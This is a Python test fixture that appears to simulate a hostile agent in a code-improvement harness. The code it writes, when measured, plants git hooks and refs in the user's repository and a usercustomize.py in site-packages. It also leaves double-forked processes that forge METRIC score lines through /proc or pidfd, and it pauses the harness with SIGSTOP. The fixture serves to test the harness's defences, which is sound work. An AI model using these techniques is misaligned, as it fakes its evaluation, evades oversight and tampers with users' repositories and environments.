#!/usr/bin/env python3
"""An agent whose change attacks from the measured code (the `command` contract of DESIGN §9).

It lowers src/value.txt (an honest-looking gain) and writes src/mod.py so that, when the metric
or the guard runs the code, it attacks what argv[1] names (comma-separated):
- `repo`: write the user's repository from the measurement checkout (`../../..` is its .git):
  a hook, `core.hooksPath`, a ref, a file of the work tree;
- `home`: plant `usercustomize.py` in the user's site-packages (a forged `METRIC` line for
  every later Python benchmark);
- `daemon`: leave a double-forked, environment-scrubbed process that holds the benchmark's
  stdout (through /proc) and prints a forged `METRIC` line once the benchmark is gone.
- `pidfd`: leave a double-forked grandchild in its own session that waits (pidfd) for the
  metric command to exit and then writes a better `METRIC` line to the stdout it inherited.
- `stop`: leave a process that stops the harness (SIGSTOP), waits for the benchmark to end,
  adds a `METRIC` line to the output it inherited, and lets the harness go on (SIGCONT).
argv[2] is a mark every planted file and process carries, so a test can look for them.
"""

import pathlib
import sys

attacks, mark = sys.argv[1], sys.argv[2]
ws = pathlib.Path.cwd()
(ws / "src" / "value.txt").write_text("90\n")
(ws / "src" / "mod.py").write_text(
    f"""import os, pathlib, site, subprocess, sys, time

ATTACKS, MARK = {attacks!r}.split(","), {mark!r}


def attack():
    here = pathlib.Path.cwd()
    if "repo" in ATTACKS:
        git_dir = here.parents[2]  # <repo>/.git/improve/work/<checkout>
        for path, text in [
            (git_dir / "hooks" / "post-checkout", "#!/bin/sh\\necho " + MARK + "\\n"),
            (git_dir / "refs" / "heads" / MARK, git_dir / "refs" / "heads" / "main"),
            (git_dir.parent / "README.txt", MARK + "\\n"),
        ]:
            try:
                path.write_text(text if isinstance(text, str) else text.read_text())
            except OSError:
                pass
        subprocess.run(["git", "-C", str(git_dir.parent), "config", "core.hooksPath", "/" + MARK],
                       capture_output=True)
    if "home" in ATTACKS:
        try:
            user = pathlib.Path(site.getusersitepackages())
            user.mkdir(parents=True, exist_ok=True)
            (user / "usercustomize.py").write_text(
                "import atexit\\natexit.register(lambda: print('METRIC score=1'))  # " + MARK + "\\n"
            )
        except OSError:
            pass
    if "daemon" in ATTACKS and os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            bench = BENCH
            code = (
                "import os, sys, time\\n"
                "out = open('/proc/%d/fd/1' % int(sys.argv[1]), 'a')\\n"
                "while os.path.exists('/proc/%d' % int(sys.argv[1])): time.sleep(0.01)\\n"
                "for _ in range(300):\\n"
                "    out.write('METRIC score=1\\\\n'); out.flush(); time.sleep(0.01)\\n"
            )
            os.execve(sys.executable, [sys.executable, "-c", code, str(bench), MARK],
                      {{"PATH": "/usr/bin:/bin"}})
        os._exit(0)
    if "pidfd" in ATTACKS and os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            import select
            try:
                fd = os.pidfd_open(COMMAND)
                poll = select.poll()
                poll.register(fd, select.POLLIN)
                poll.poll()
                os.write(1, b"METRIC score=1\\n")
            finally:
                os._exit(0)
        os._exit(0)
    if "stop" in ATTACKS:  # stop the harness, add a line once the benchmark is gone, go on
        ready = here / ".stopped"
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                code = (
                    "import os, pathlib, signal, sys, time\\n"
                    "def stat(pid):\\n"
                    "    return open('/proc/%d/stat' % pid).read().rsplit(')', 1)[1].split()\\n"
                    "bench, pid, harness = int(sys.argv[1]), int(sys.argv[1]), None\\n"
                    "for _ in range(8):\\n"
                    "    pid = int(stat(pid)[1])\\n"
                    "    if b'gitimprove' in open('/proc/%d/cmdline' % pid, 'rb').read():\\n"
                    "        harness = pid\\n"
                    "        break\\n"
                    "os.kill(harness, signal.SIGSTOP)\\n"
                    "pathlib.Path(sys.argv[2]).write_text('1')\\n"
                    "while os.path.exists('/proc/%d' % bench) and stat(bench)[0] != 'Z':\\n"
                    "    time.sleep(0.005)\\n"
                    "os.write(1, b'METRIC score=1\\\\n')\\n"
                    "os.kill(harness, signal.SIGCONT)\\n"
                )
                os.execve(sys.executable, [sys.executable, "-c", code, str(BENCH), str(ready), MARK],
                          {{"PATH": "/usr/bin:/bin"}})
            os._exit(0)
        deadline = time.monotonic() + 10
        while not ready.exists() and time.monotonic() < deadline:
            time.sleep(0.005)


BENCH = os.getpid()
COMMAND = os.getppid() if pathlib.Path("/proc/%d/exe" % os.getppid()).resolve().name in (
    "sh", "dash", "bash") else BENCH  # the metric command's own process


def score():
    attack()
    return float(pathlib.Path("src/value.txt").read_text())
"""
)
print(f"experiment: measured code attacks {attacks}")
